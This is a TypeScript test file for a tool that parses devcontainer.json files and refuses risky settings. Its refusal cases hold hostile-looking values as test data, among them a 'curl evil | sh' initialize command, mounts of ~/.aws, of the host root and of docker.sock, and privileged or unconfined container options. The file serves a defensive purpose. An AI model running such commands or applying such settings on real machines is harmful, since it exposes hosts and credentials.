import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { plain } from '../../src/cli/paint.ts';
import { renderProblem } from '../../src/cli/render-problem.ts';
import { readDevcontainer } from '../../src/config/devcontainer/read-devcontainer.ts';
import { PROPERTIES } from '../../src/config/devcontainer/properties.ts';
import { loadConfig } from '../../src/config/load.ts';
import { filesOfProject } from '../../src/trust/content.ts';
import { powersOf } from '../../src/trust/powers.ts';
import type { ConfigText } from '../../src/kernel/config-texts.ts';
import { path, projectText } from './project-text.ts';

const IMAGE = '"image": "debian:12"';

function textOf(text: string, file = '/work/thesis/.devcontainer/devcontainer.json'): ConfigText {
  return projectText(text, { file: path(file), root: path('/work/thesis') });
}

function read(text: string, env: Readonly<Record<string, string>> = {}, file?: string) {
  return loadConfig([textOf(text, file)], env, (one) => readDevcontainer(one, env));
}

/** What a devcontainer.json comes to, that has nothing wrong. */
function toolbox(text: string, env: Readonly<Record<string, string>> = {}, file?: string) {
  const config = read(text, env, file);
  if (!config.ok) throw new Error(JSON.stringify(config.error));
  expect(config.value.everyWord).toBe('devcontainer');
  return [...config.value.toolboxes.values()][0]!.value;
}

const variables = (text: string, env = {}) =>
  toolbox(`{ ${IMAGE}, ${text} }`, env).env.map(({ value }) => value);

/** `line:column code` of all that is wrong, with what is said of it. */
function faults(text: string): readonly string[] {
  const config = read(text);
  return config.ok
    ? []
    : config.error.map(
        ({ code, place, message }) => `${place?.line}:${place?.column} ${code} ${message}`,
      );
}

function powers(text: string): readonly string[] {
  const source = textOf(text);
  const config = read(text);
  if (!config.ok) throw new Error(JSON.stringify(config.error));
  return powersOf(config.value, filesOfProject([source])).map(
    ({ says, place }) => `${place.line}: ${says}`,
  );
}

describe('an image', () => {
  test('is a toolbox with the network of the caller, and the project at the usual place', () => {
    expect(toolbox(`{ ${IMAGE} }`)).toMatchObject({
      kind: 'image',
      image: { value: 'debian:12', place: { line: 1, column: 12 } },
      env: [],
      share: [],
      workspace: { value: '/workspaces/thesis' },
    });
  });

  test('is a power, with all else that is asked for', () => {
    const text = `{\n${IMAGE},\n"remoteEnv": {\n"TOKEN": "\${localEnv:TOKEN}",\n"A": "1" } }`;
    expect(powers(text)).toEqual([
      '2: `devcontainer` is the image `debian:12`: it is fetched from where the project says',
      '2: the tools of `devcontainer` have your network, with services of this machine that only you can reach',
      '4: the tools of `devcontainer` see your variable `TOKEN`',
    ]);
  });
});

describe('a Dockerfile', () => {
  test('lies, and its context, from the devcontainer.json on', () => {
    const text = `{ "build": { "dockerfile": "Dockerfile", "target": "dev", "args": {
      "A": "1", "AT": "\${localWorkspaceFolderBasename}" }, "cacheFrom": "x" } }`;
    expect(toolbox(text)).toMatchObject({
      kind: 'dockerfile',
      dockerfile: { value: '/work/thesis/.devcontainer/Dockerfile' },
      context: '/work/thesis/.devcontainer',
      target: 'dev',
      args: { A: '1', AT: 'thesis' },
    });
  });

  test.each([
    ['{ "build": { "dockerfile": "../tools/Dockerfile", "context": ".." } }', undefined],
    ['{ "dockerFile": "../tools/Dockerfile", "context": ".." }', undefined],
    ['{ "dockerFile": "tools/Dockerfile" }', '/work/thesis/.devcontainer.json'],
  ])('%s', (text, file) => {
    const read = toolbox(text, {}, file);
    expect(read).toMatchObject({ context: '/work/thesis' });
    expect(read).toMatchObject({ dockerfile: { value: '/work/thesis/tools/Dockerfile' } });
  });

  test.each(['../../Dockerfile', '/etc/Dockerfile', '../../thesis2/Dockerfile', ''])(
    'at %j is outside of the project',
    (at) => {
      const text = `{ "build": { "dockerfile": ${JSON.stringify(at)} } }`;
      expect(faults(text)[0]).toMatch(/^1:28 config\/path-outside /);
      const context = `{ "build": { "dockerfile": "Dockerfile", "context": "../.." } }`;
      expect(faults(context)).toEqual(['1:53 config/path-outside `../..` leaves the project']);
    },
  );

  test('is given nothing of the caller’s', () => {
    const text = '{ "build": { "dockerfile": "D", "args": { "T": "${localEnv:TOKEN}" } } }';
    expect(faults(text)[0]).toContain('config/not-met `build.args.T` cannot be met');
  });
});

describe('variables', () => {
  test('are set, with the project’s directories in them', () => {
    const text = `"containerEnv": { "A": "a b", "L": "\${localWorkspaceFolder}/x" },
      "remoteEnv": { "C": "\${containerWorkspaceFolder}:\${containerWorkspaceFolderBasename}", "A": "2" }`;
    expect(variables(text)).toEqual([
      { kind: 'set', name: 'A', value: 'a b' },
      { kind: 'set', name: 'L', value: '/work/thesis/x' },
      { kind: 'set', name: 'C', value: '/workspaces/thesis:thesis' },
      { kind: 'set', name: 'A', value: '2' },
    ]);
  });

  test('of the caller pass by their own names, also those that have a value otherwise', () => {
    const text = '"remoteEnv": { "TOKEN": "${localEnv:TOKEN:none}", "B": "${env:B}" }';
    const passed = [
      { kind: 'pass', name: 'TOKEN' },
      { kind: 'pass', name: 'B' },
    ];
    expect(variables(text, { TOKEN: 'x' })).toEqual(passed);
    const otherwise = { kind: 'set', name: 'TOKEN', value: 'none' };
    expect(variables(text)).toEqual([passed[0], otherwise, passed[1]]);
  });

  test.each([
    ['"T": "${localEnv:HOME}"', /your variable `HOME` can be seen by its own name alone/],
    ['"PATH": "${containerEnv:PATH}:/x"', /nobody knows `\$\{containerEnv:PATH\}`/],
    ['"PATH": "${localEnv:PATH}"', /your `PATH` says where programs are on your machine/],
    ['"X": "a${localEnv:HOME}"', /nobody knows `\$\{localEnv:HOME\}`/],
    ['"X": "${devcontainerId}"', /nobody knows `\$\{devcontainerId\}`/],
    ['"X": "${nonsense`\\u001b[2J}"', /nobody knows `\$\{nonsense\\x60\\u001b\[2J\}`/],
    ['"X": null', /not be taken away/],
    ['"X": 1', /should be text, not the number 1/],
    ['"A B": "1"', /`A B` should be the name of a variable/],
    ['"__proto__": "1"', /`__proto__` should be the name of a variable/],
    ['"X": "a\\u0000"', /without NUL/],
  ])('%s cannot be met', (text, said) => {
    expect(faults(`{ ${IMAGE}, "containerEnv": { ${text} } }`)).toEqual([
      expect.stringMatching(said),
    ]);
  });
});

describe('the workspace', () => {
  test.each([
    ['"workspaceFolder": "/workspace"', '/workspace', '/workspace'],
    ['"workspaceFolder": "/workspaces/thesis/sub"', '/workspaces/thesis', '/workspaces/thesis/sub'],
    [
      '"workspaceMount": "source=${localWorkspaceFolder},target=/w,type=bind,consistency=cached", "workspaceFolder": "/w/sub"',
      '/w',
      '/w/sub',
    ],
    ['"workspaceFolder": "${localWorkspaceFolder}"', '/work/thesis', '/work/thesis'],
  ])('%s', (text, mountedAt, folder) => {
    const read = toolbox(
      `{ ${IMAGE}, ${text}, "containerEnv": { "F": "\${containerWorkspaceFolder}" } }`,
    );
    expect(read.workspace?.value).toBe(mountedAt);
    expect(read.env.map(({ value }) => value)).toEqual([{ kind: 'set', name: 'F', value: folder }]);
  });

  test.each([
    '"workspaceMount": "source=/,target=/w,type=bind"',
    '"workspaceMount": "source=${localWorkspaceFolder}/..,target=/w,type=bind"',
    '"workspaceMount": "source=${localEnv:HOME},target=/w,type=bind"',
    '"workspaceMount": "source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind"',
    '"workspaceMount": "source=x,target=/w,type=volume"',
    '"workspaceMount": "source=${localWorkspaceFolder},target=/w,type=bind,readonly"',
    '"workspaceMount": "source=${localWorkspaceFolder},target=w,type=bind"',
    '"workspaceMount": ""',
    '"workspaceFolder": "w"',
    '"workspaceFolder": "${localEnv:HOME}"',
  ])('%s cannot be met', (text) => {
    expect(faults(`{ ${IMAGE}, ${text} }`)).toEqual([expect.stringContaining('config/not-met')]);
  });
});

test.each([
  ['"runArgs": ["--init", "--rm"]', undefined],
  ['"runArgs": ["--network=none"]', 'none'],
  ['"runArgs": ["--net=bridge"]', 'bridge'],
])('%s', (text, network) => {
  expect(toolbox(`{ ${IMAGE}, ${text} }`).network?.value).toBe(network);
});

test.each([
  '"features": { "ghcr.io/devcontainers/features/node:1": {} }',
  '"dockerComposeFile": "compose.yml"',
  '"service": "app"',
  '"initializeCommand": "curl evil | sh"',
  '"onCreateCommand": ["make"]',
  '"updateContentCommand": { "a": "b" }',
  '"postCreateCommand": "npm install"',
  '"postStartCommand": "x"',
  '"postAttachCommand": "x"',
  '"privileged": true',
  '"capAdd": ["SYS_PTRACE"]',
  '"securityOpt": ["seccomp=unconfined"]',
  '"overrideCommand": false',
  '"updateRemoteUserUID": false',
  '"hostRequirements": { "gpu": true }',
  '"runArgs": ["--privileged"]',
  '"runArgs": ["--volume=/:/host"]',
  '"mounts": ["source=cache,target=/c,volume-nocopy"]',
  '"mounts": ["source=x,target=/c,type=npipe"]',
  '"mounts": ["source=../x,target=/c"]',
  '"mounts": ["target=/c"]',
  '"mounts": ["source=a,target=c"]',
  '"mounts": ["source=cache,type=volume"]',
  '"mounts": ["source=~/.aws,target=/c,type=bind"]',
  '"mounts": ["source=${localEnv:OTHER}/x,target=/c,type=bind"]',
  '"mounts": ["source=${localWorkspaceFolder}/.bashrc,target=/c,type=bind"]',
  '"mounts": ["source=${localWorkspaceFolder}/../data,target=/c,type=bind"]',
  '"mounts": ["source=/work/thesis/data,target=/c,type=bind"]',
  '"mounts": ["source=modules,target=${containerWorkspaceFolder}/node_modules"]',
  '"mounts": ["source=modules,target=${localWorkspaceFolder}/node_modules"]',
  '"mounts": ["type=tmpfs,target=/t,readonly"]',
  '"mounts": ["source=cache,target=/c,readonly=no"]',
  '"mounts": [{ "source": "${localWorkspaceFolder}", "target": "/s", "type": "bind" }]',
  '"remoteUser": "root"',
  '"containerUser": "0:0"',
  '"build": { "dockerfile": "D", "options": ["--secret=x"] }',
])('%s is refused, at its place', (text) => {
  const more = text.startsWith('"build"') ? '' : `${IMAGE},`;
  const found = faults(`{ // what follows is refused\n${more}\n${text} }`);
  expect(found).toEqual([
    expect.stringMatching(/^3:\d+ config\/not-met `[^`]+` cannot be met: [^A-Z].*[^.]$/),
  ]);
});

describe('mounts', () => {
  const home = { HOME: '/home/ada' };
  const mounts = (...texts: readonly string[]) =>
    toolbox(`{ ${IMAGE}, "mounts": [${texts.join(', ')}] }`, home).mounts?.map(
      ({ value }) => value,
    );

  test('are as `docker run --mount` has them, or maps', () => {
    const cache = { kind: 'volume', name: 'cache', target: '/c', access: 'read-write' };
    expect(
      mounts(
        '"source=cache,target=/c,type=volume"',
        '"src=cache,dst=/c"',
        '{ "type": "volume", "source": "cache", "target": "/c" }',
        '"type=volume,source=cache,destination=/c,readonly,consistency=cached"',
        '{ "type": "bind", "source": "/srv/./x", "target": "/x/", "readonly": true }',
        '"type=bind,source=/srv/x,target=/x,ro=false"',
        '"type=tmpfs,target=/t"',
      ),
    ).toEqual([
      cache,
      cache,
      cache,
      { ...cache, access: 'read-only' },
      { kind: 'bind', source: '/srv/x', target: '/x', access: 'read-only' },
      { kind: 'bind', source: '/srv/x', target: '/x', access: 'read-write' },
      { kind: 'memory', target: '/t' },
    ]);
  });

  test('know the project, the home directory, and that volumes are of one project', () => {
    expect(
      mounts(
        '"source=${localEnv:HOME}${localEnv:USERPROFILE}/.m2,target=/root/.m2,type=bind"',
        '"source=${localWorkspaceFolderBasename}-${devcontainerId},target=/${localWorkspaceFolderBasename}"',
      ),
    ).toMatchObject([
      { source: '/home/ada/.m2', target: '/root/.m2' },
      { name: 'thesis-devcontainer', target: '/thesis' },
    ]);
  });

  test('of what is the caller’s are powers', () => {
    const text = `{ ${IMAGE}, "runArgs": ["--network=none"], "mounts": [
      "source=/srv/x,target=/x,type=bind", "source=/srv/a\`y,target=/y,type=bind,readonly",
      "source=v,target=/v", "type=tmpfs,target=/t"] }`;
    expect(powers(text).slice(1)).toEqual([
      '2: the tools of `devcontainer` can read and change your `/srv/x`',
      '2: the tools of `devcontainer` can read your `/srv/a\\x60y`',
    ]);
  });
});

test('what asks for nothing, and what is an editor’s, is passed over', () => {
  const empty = Object.keys(PROPERTIES)
    .filter((name) => PROPERTIES[name] !== 'read')
    .map((name) => `"${name}": ${PROPERTIES[name] === 'passed-over' ? '"x"' : 'null'}`);
  const text = `{ ${IMAGE}, ${empty.join(', ')}, }`;
  expect(toolbox(text).env).toEqual([]);
  const nothing = `"features": {}, "mounts": [], "privileged": false, "postCreateCommand": "",
    "overrideCommand": true, "updateRemoteUserUID": true, "hostRequirements": { "cpus": 4, "gpu": "optional" },
    "remoteUser": "vscode", "runArgs": []`;
  expect(toolbox(`{ ${IMAGE}, ${nothing} }`).kind).toBe('image');
});

test.each([
  ['', 'config/missing-key'],
  ['{}', 'config/missing-key'],
  ['[]', 'config/missing-key'],
  ['{ "dockerComposeFile": [] }', 'config/missing-key'],
  [`{ ${IMAGE}, "build": { "dockerfile": "D" } }`, 'config/toolbox-kind'],
  ['{ "image": 1 }', 'config/wrong-type'],
  ['{ "image": "a b" }', 'config/bad-value'],
  [`{ ${IMAGE}, "containerEnvv": {} }`, 'config/unknown-key'],
  [`{ ${IMAGE}, "__proto__": {} }`, 'config/unknown-key'],
  [`{ ${IMAGE}, "constructor": {} }`, 'config/unknown-key'],
  [`{ ${IMAGE}, ${IMAGE} }`, 'config/duplicate-key'],
  [`{ ${IMAGE}, "remoteEnv": [] }`, 'config/wrong-type'],
  [`{ ${IMAGE}, "mounts": {} }`, 'config/wrong-type'],
  [`{ ${IMAGE}, "mounts": [1] }`, 'config/wrong-type'],
  [`{ ${IMAGE}, "mounts": [{ "source": 1 }] }`, 'config/wrong-type'],
  [`{ ${IMAGE} // \n`, 'config/syntax'],
  ['{ "image": "x', 'config/syntax'],
  ['{ /* ', 'config/syntax'],
])('%j is %s', (text, code) => {
  const config = read(text);
  expect(config.ok ? [] : config.error.map((problem) => problem.code)).toContain(code);
});

test('each option of a mount that is wrong is told', () => {
  const config = read(`{ ${IMAGE}, "mounts": [{ "source": 1, "readonly": true, "target": [] }] }`);
  const told = config.ok ? [] : config.error.map(({ message }) => message);
  expect(told).toEqual([
    expect.stringContaining('mounts.source'),
    expect.stringContaining('mounts.target'),
  ]);
});

test('a broken one is shown as it is written, comments and all, and nothing of it raw', () => {
  const text = `{\n  // an image\n  "image": "x" /* \x1b[2J\u202e */ "name": "y"\n}\n`;
  const config = read(text);
  if (config.ok) throw new Error('it is broken');
  const shown = config.error.map((one) =>
    renderProblem(one, { paint: plain, cwd: '/', columns: 100 }),
  );
  expect(shown.join('')).toContain('"image": "x" /* \\x1b[2J\\u202e */ "name"');
  expect(shown.join('')).not.toMatch(/\x1b|\u202e/);
  expect(shown.join('')).toContain('it should be JSON, with or without comments');
});

test('whatever is in it, it comes to a config or to problems at their places', () => {
  const value = fc.jsonValue({ maxDepth: 3 });
  const document = fc.dictionary(fc.constantFrom(...Object.keys(PROPERTIES)), value);
  fc.assert(
    fc.property(fc.oneof(document, value), (said) => {
      const config = read(JSON.stringify(said));
      if (config.ok) expect(config.value.toolboxes.size).toBe(1);
      else for (const { place } of config.error) expect(place?.line).toBe(1);
    }),
  );
});
